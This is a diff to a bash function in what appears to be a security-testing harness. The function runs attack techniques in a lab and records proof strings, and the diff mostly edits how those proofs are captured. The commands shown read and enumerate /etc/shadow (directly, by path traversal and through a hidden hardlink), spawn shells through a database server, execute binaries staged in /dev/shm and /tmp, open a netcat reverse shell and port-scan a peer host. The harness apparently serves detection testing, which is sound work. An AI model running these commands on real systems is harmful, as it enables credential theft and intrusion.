@@ -32,7 +32,7 @@ run_attack() {
       out="$(chan_run "$svc" "$id" 20 '/bin/sh -c '"'"'echo DWE-PROOF shell pid=$$ exe=$(readlink /proc/$$/exe) parent=$(readlink /proc/$PPID/exe)'"'")" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF shell .*exe=/usr/bin/dash' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     shell_spawn_service) # the database server itself spawns a shell: COPY ... FROM PROGRAM
       via=service; kinds="exec"; re='/(da|ba)?sh$'
       t0=$(now_ms)
@@ -42,28 +42,28 @@ run_attack() {
         -c "SELECT l FROM dwe_x" 2>&1)" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF shell_spawn_service postgres' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     shadow_direct)
       kinds="file"; re='^/etc/shadow$'
       t0=$(now_ms)
       out="$(chan_run "$svc" "$id" 20 'cat /etc/shadow | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo')" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     shadow_traversal)
       kinds="file"; re='shadow'
       t0=$(now_ms)
       out="$(chan_run "$svc" "$id" 20 'cat /var/www/html/../../../etc/shadow | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo')" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     shadow_hardlink) # same inode under an innocent name; the opened path never says "shadow"
       kinds="file"; re='shadow|/var/tmp/\.cache-s'
       t0=$(now_ms)
       out="$(chan_run "$svc" "$id" 20 'ln /etc/shadow /var/tmp/.cache-s && cat /var/tmp/.cache-s | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo; rm -f /var/tmp/.cache-s')" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     write_etc) # a backdoor account
       kinds="file"; re='^/etc/'
       t0=$(now_ms)
@@ -102,14 +102,14 @@ run_attack() {
       out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/uname /dev/shm/.s && chmod 755 /dev/shm/.s && /dev/shm/.s -n | sed "s/^/DWE-PROOF ran: /"')" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF ran: ' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     exec_tmp)
       kinds="exec"; re='^/tmp/'
       t0=$(now_ms)
       out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/whoami /tmp/.t && chmod 755 /tmp/.t && /tmp/.t | sed "s/^/DWE-PROOF ran: /"')" || rc=$?
       t1=$(now_ms)
       grep -q '^DWE-PROOF ran: root' <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     reverse_shell) # busybox nc -e /bin/sh to a listener in the peer namespace
       kinds="connect"; re="$peer:4444"
       printf 'echo DWE-PROOF reverse_shell $(id -un)@$(cat /etc/hostname)\nexit\n' > "$RUN/revshell.in"
@@ -150,11 +150,11 @@ run_attack() {
       bg_start lpid sh -c "exec ip netns exec '$PEERNS' timeout 40 nc -k -l '$peer' 22 >/dev/null 2>&1"
       wait_listen "$PEERNS" "$peer" 22 10 || log "warning: decoy listener not up"
       t0=$(now_ms)
-      out="$(chan_run "$svc" "$id" 30 "nc -z -v -w 1 $peer 1-1024 2>&1 | grep succeeded | sed 's/^/DWE-PROOF /'")" || rc=$?
+      out="$(chan_run "$svc" "$id" 30 "/usr/bin/nc -z -v -w 1 $peer 1-1024 2>&1 | grep succeeded | sed 's/^/DWE-PROOF /'")" || rc=$?
       t1=$(now_ms)
       stop_pid "$lpid" 2
       grep -q "^DWE-PROOF .* 22 port" <<<"$out" && executed=true
-      proof="$(grep -m1 DWE-PROOF <<<"$out")" ;;
+      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
     *) die "unknown technique $tech" ;;
   esac
   [ -n "$outcome" ] || outcome="$([ "$executed" = true ] && echo executed || echo "not executed (exit $rc)")"
